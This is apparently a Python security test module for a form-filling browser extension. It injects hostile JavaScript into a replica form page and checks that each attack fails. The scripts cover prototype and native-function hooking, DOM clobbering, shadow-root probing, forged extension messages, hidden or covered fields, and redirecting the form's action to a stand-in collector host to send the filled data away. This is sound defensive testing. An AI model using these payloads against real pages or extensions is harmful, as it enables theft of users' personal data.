"""What a page may try against the person or the extension, and how it is seen that it did not succeed.

Each page is the replica of the form of 2024 with something added. ``docs/security.md`` is written
from this table and from
:mod:`builder.security.hostile.guards`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from builder.browsers import BrowserName, until
from builder.browsers.page_session import Driven, Meeting
from builder.replica import pages as replica

__all__ = ["ATTACKS", "BOTH", "Attack", "attempt"]

BOTH: tuple[BrowserName, ...] = ("firefox", "chrome")
COUNTRY, EMAIL, REASON = "[name=country]", "[name=email]", "[name=objection_explanation]"
ADDRESS = "camille.martin@example.org"
AWAY = "https://collector.example/take"
"""Where a page of nobody's could send what was filled in."""

Check = Callable[[Meeting], None]


@dataclass(frozen=True)
class Attack:
    """A page with something added, at its first moment or at its end."""

    name: str
    title: str
    """What the page tries, for the person who reads ``docs/security.md``."""
    check: Check
    """Raises ``AssertionError`` when it succeeded."""
    first: str = ""
    """JavaScript that runs before anything else, in the page's own world."""
    last: str = ""
    """JavaScript that runs at the end of the page's body."""
    otherwise: str = "the browser: a content script has its own objects"
    """What guards against it, where no single place in our code does."""


def attempt(driven: Driven, attack: Attack) -> None:
    """Opens the page and checks what came of it."""
    page = replica.page("classic-2024")
    meeting = driven.window()
    if attack.first:
        driven.control.cool()  # what the page does first is meant for an engine that boots within it
    first = f"<script>{attack.first}</script>" if attack.first else ""
    last = f"<script>{attack.last}</script>" if attack.last else ""
    html = (
        page.html().replace("<head>", f"<head>{first}", 1).replace("</body>", f"{last}</body>", 1)
    )
    replica.serve(driven.site, page, window=meeting.window.context)
    driven.site.serve(page.url, html, window=meeting.window.context)
    meeting.go(page.url)
    attack.check(meeting)


def filled(meeting: Meeting) -> None:
    """The form was filled all the same."""
    until(lambda: meeting.held(EMAIL) == [ADDRESS], 40, "the form is filled")
    meeting.settled()
    country, email, reason = meeting.held(COUNTRY, EMAIL, REASON)
    assert (country, email) == ("France", ADDRESS)
    assert "CNIL" in reason


def left_alone(*selectors: str) -> Check:
    """These controls hold nothing in the end."""

    def check(meeting: Meeting) -> None:
        meeting.settled()
        assert meeting.held(*selectors) == [""] * len(selectors)

    return check


def _report(meeting: Meeting) -> Any:
    return meeting.window.run("() => globalThis.caught ?? []", apart=False)


def _caught_nothing(meeting: Meeting) -> None:
    filled(meeting)
    assert _report(meeting) == []


_PROMISES = """globalThis.caught = [];
Object.defineProperty(Object.prototype, "then", { configurable: true, get() {
  if (this instanceof Response && /-extension:/.test(this.url)) caught.push(this.url);
  if (this instanceof ArrayBuffer) caught.push(`a buffer of ${this.byteLength} bytes`);
  return undefined;
} });"""

_NATIVES = """globalThis.caught = [];
const { includes } = String.prototype, { push } = Array.prototype, { call } = Function.prototype;
let busy = false;
function take(what) {
  if (typeof what === "string" && call.call(includes, what, "camille")) call.call(push, caught, what);
}
for (const [owner, name] of [[JSON, "stringify"], [JSON, "parse"], [Array.prototype, "push"], [Array.prototype, "map"],
  [Array.prototype, "join"], [Map.prototype, "set"], [Promise.prototype, "then"], [String.prototype, "includes"],
  [EventTarget.prototype, "addEventListener"],
  [Element.prototype, "getAttribute"], [Node.prototype, "appendChild"], [Document.prototype, "querySelectorAll"]]) {
  const before = owner[name];
  owner[name] = function (...given) {
    if (!busy) {
      busy = true;
      for (let index = 0; index < given.length; index += 1) take(given[index]);
      take(this);
      if (call.call(includes, new Error().stack, "-extension:")) call.call(push, caught, name);
      busy = false;
    }
    return before.apply(this, given);
  };
}
globalThis.MutationObserver = class { observe() { throw new Error("no"); } takeRecords() { return []; } disconnect() {} };
globalThis.WebAssembly = { compile: () => { throw new Error("no"); } };
globalThis.chrome = undefined;
for (const kind of [HTMLInputElement, HTMLTextAreaElement, HTMLSelectElement])
  Object.defineProperty(kind.prototype, "form", { configurable: true, get: () => ({ action: "https://collector.example/" }) });"""

_CLOBBERED = """for (const name of ["attributes", "parentNode", "nodeType", "localName", "getAttribute", "hasAttribute", "action",
  "elements", "isConnected", "ownerDocument", "firstChild", "nextSibling", "children", "getRootNode", "closest", "matches",
  "querySelectorAll", "getBoundingClientRect", "textContent"]) {
  const thing = document.createElement("input");
  thing.type = "hidden"; thing.name = name; thing.value = "x";
  document.querySelector("form").append(thing);
}
for (const name of ["body", "forms", "defaultView", "documentElement", "activeElement", "URL", "title", "readyState"]) {
  const image = document.createElement("img");
  image.name = name; image.alt = "";
  document.body.append(image);
}"""

_NAMED_PANEL = """globalThis.caught = [];
const attach = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (given) {
  caught.push("a root");
  return attach.call(this, { ...given, mode: "open" });
};
for (const name of ["objecteur-panel", "objecteur-root", "objecteur-host"]) customElements.define(name, class extends HTMLElement {
  constructor() { super(); this.inside = this.attachInternals(); }
  connectedCallback() { const root = this.inside.shadowRoot; if (root) caught.push(String(root.textContent)); }
});"""

_LOOKING_IN = """globalThis.caught = [];
addEventListener("DOMContentLoaded", () => new MutationObserver(() => {
  for (const node of document.querySelectorAll("*")) {
    if (node.shadowRoot) caught.push("a root");
    if (getComputedStyle(node).zIndex !== "2147483647") continue;
    const at = { bubbles: true, composed: true, clientX: innerWidth - 60, clientY: innerHeight - 60 };
    for (const type of ["click", "mousedown", "pointerdown", "keydown", "focusin"]) node.dispatchEvent(new MouseEvent(type, at));
  }
}).observe(document.documentElement, { childList: true, subtree: true }));
for (const type of ["click", "keydown", "pointerdown", "focusin"])
  addEventListener(type, (event) => { if (event.composedPath().some((node) => node instanceof ShadowRoot)) caught.push(type); }, true);"""

_FORGED = """for (const type of ["state", "record", "save", "open", "engine", "diagnostic", "handle"]) {
  for (const to of ["background", "content", "engine"]) {
    const profile = { email: "other@collector.example" };
    const message = { to, type, kind: "open_page", value: "settings", profile, events: [{ kind: "sent" }] };
    postMessage(message, "*");
    dispatchEvent(new CustomEvent("message", { detail: message }));
    try { chrome.runtime.sendMessage(message); } catch {}
    try { browser.runtime.sendMessage(message); } catch {}
  }
}"""

_MASS = """const many = document.createElement("div");
many.innerHTML = `<label>Champ <input></label><p>${"Mots sans fin. ".repeat(20)}</p>`.repeat(8000);
document.body.append(many);"""

_MARKUP = """globalThis.caught = [];
document.querySelector("label").insertAdjacentText("beforeend", '<img src=x onerror="caught.push(1)"><script>caught.push(2)</' + "script>");
document.querySelector("h1").insertAdjacentText("beforeend", '<img src=x onerror="caught.push(3)">');
document.querySelector("option[value=France]").label = "France";"""


def _on_country(work: str) -> str:
    """Runs at the very moment at which the country has been written: between what was planned and what is still to be done."""
    return f"""document.querySelector("[name=country]").addEventListener("change", () => {{
  const form = document.querySelector("form"), email = document.querySelector("[name=email]");
  {work}
}}, {{ once: true }});"""


def _hidden(style: str) -> str:
    return f'document.querySelector("[name=email]").style.cssText = {style!r};'


_HIDDEN = {
    "opacity": ("is transparent", "opacity: 0.02"),
    "filter": ("is made transparent by a filter", "filter: opacity(2%)"),
    "offscreen": ("lies beyond the edge of the page", "position: absolute; left: -9000px"),
    "visibility": ("is invisible", "visibility: hidden"),
    "size": ("has no size", "width: 1px; height: 1px; padding: 0; border: 0"),
    "clip": ("is cut away", "clip-path: inset(50%)"),
}

_COVERED = """const cover = document.createElement("div");
const box = document.querySelector("[name=email]").getBoundingClientRect();
cover.style.cssText = "position: absolute; background: #fff";
Object.assign(cover.style, { left: `${box.left + scrollX - 5}px`, top: `${box.top + scrollY - 5}px` });
Object.assign(cover.style, { width: `${box.width + 10}px`, height: `${box.height + 10}px` });
cover.textContent = "Bienvenue";
document.body.append(cover);"""


def _nothing_opened(meeting: Meeting) -> None:
    filled(meeting)
    stored = meeting.driven.stored()
    assert stored["profile"]["email"] == ADDRESS
    assert "sent" not in {event["kind"] for event in stored["journal"]}
    control = meeting.driven.control
    others = [
        window.url()
        for window in control.browser.windows()
        if window.context != control.window.context
    ]
    assert not [url for url in others if "/settings/" in url]


def _leaves_in_peace(meeting: Meeting) -> None:
    meeting.window.wait("() => location.pathname === '/elsewhere'", timeout=40)
    meeting.driven.control.settle(meeting.tab, wait=20)
    assert not meeting.has_panel()
    assert meeting.window.run("() => document.querySelector('input').value") == ""


def _in_time(meeting: Meeting) -> None:
    until(lambda: meeting.held(EMAIL) == [ADDRESS], 60, "the form is filled")


def _nothing_listed(meeting: Meeting) -> None:
    filled(meeting)
    assert meeting.has_panel()
    seen = meeting.window.run(
        """() => [...performance.getEntries().map(({ name }) => name), ...[...document.querySelectorAll("*")].map((node) => node.outerHTML)]
          .filter((text) => text.includes("-extension:"))"""
    )
    assert seen == []


def _panel_in_words(meeting: Meeting) -> None:
    _caught_nothing(meeting)
    assert meeting.has_panel()


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "promises",
        "The page defines `Object.prototype.then`, which whatever the page’s own promises carry is asked for",
        _caught_nothing,
        first=_PROMISES,
    ),
    Attack(
        "natives",
        "The page replaces what programs are made of, and listens",
        _caught_nothing,
        first=_NATIVES,
    ),
    Attack(
        "clobbered",
        "The page names its fields so that they hide what is asked of its form and document",
        filled,
        last=_CLOBBERED,
    ),
    Attack(
        "named-panel",
        "The page defines the panel’s element and takes its root",
        _caught_nothing,
        first=_NAMED_PANEL,
    ),
    Attack(
        "looking-in",
        "The page looks for the panel’s root and plays at being the person’s mouse",
        _caught_nothing,
        first=_LOOKING_IN,
    ),
    Attack(
        "forged-messages",
        "The page sends the messages of the extension’s own parts",
        _nothing_opened,
        last=_FORGED,
    ),
    Attack(
        "resources",
        "The page asks the browser what was loaded, to learn the extension’s address",
        _nothing_listed,
        otherwise="the browser: what a content script loads is not in the page’s list",
    ),
    Attack(
        "markup",
        "Labels and headings hold markup and scripts as their text",
        _panel_in_words,
        last=_MARKUP,
        otherwise="what the panel shows is made of text nodes, never of markup",
    ),
    Attack(
        "masses",
        "Thousands of fields and millions of letters are put below the form",
        _in_time,
        last=_MASS,
        otherwise="what is read of a page, and what is sent of it to Python, is bounded",
    ),
    *(
        Attack(
            f"hidden-{name}", f"The e-mail field {title}", left_alone(EMAIL), last=_hidden(style)
        )
        for name, (title, style) in _HIDDEN.items()
    ),
    Attack("hidden-covered", "The e-mail field is covered", left_alone(EMAIL), last=_COVERED),
    Attack(
        "hidden-meanwhile",
        "The e-mail field is hidden between the plan and the writing",
        left_alone(EMAIL),
        last=_on_country("email.style.opacity = 0;"),
    ),
    Attack(
        "another-meanwhile",
        "The e-mail field becomes another field between the plan and the writing",
        left_alone("[name=pin_hint]"),
        last=_on_country(
            'email.name = "pin_hint"; email.closest(".row").querySelector("label").textContent = "Numéro secret";'
        ),
    ),
    Attack(
        "elsewhere",
        "The form is sent to somebody else",
        left_alone(COUNTRY, EMAIL, REASON),
        last=f'document.querySelector("form").setAttribute("action", "{AWAY}");',
    ),
    Attack(
        "elsewhere-by-button",
        "One of several buttons sends the form to somebody else",
        left_alone(COUNTRY, EMAIL, REASON),
        last=f"""const buttons = '<button formaction="{AWAY}">Envoyer</button><button formaction="/own">Ok</button>';
document.querySelector("form").insertAdjacentHTML("beforeend", buttons);""",
    ),
    Attack(
        "elsewhere-meanwhile",
        "The form is turned to somebody else between the plan and the writing",
        left_alone(EMAIL, REASON),
        last=_on_country(f'form.setAttribute("action", "{AWAY}");'),
    ),
    Attack(
        "button-meanwhile",
        "A button that sends the form to somebody else comes between the plan and the writing",
        left_alone(EMAIL, REASON),
        last=_on_country(f'form.querySelector("button").setAttribute("formaction", "{AWAY}");'),
    ),
    Attack(
        "away-meanwhile",
        "The page goes elsewhere while it is being filled",
        _leaves_in_peace,
        otherwise="what is planned names a node and its path, and both must still be one",
        last=_on_country(
            "history.replaceState({}, '', '/elsewhere'); document.body.innerHTML = '<label>Adresse e-mail <input type=email></label>';"
        ),
    ),
)
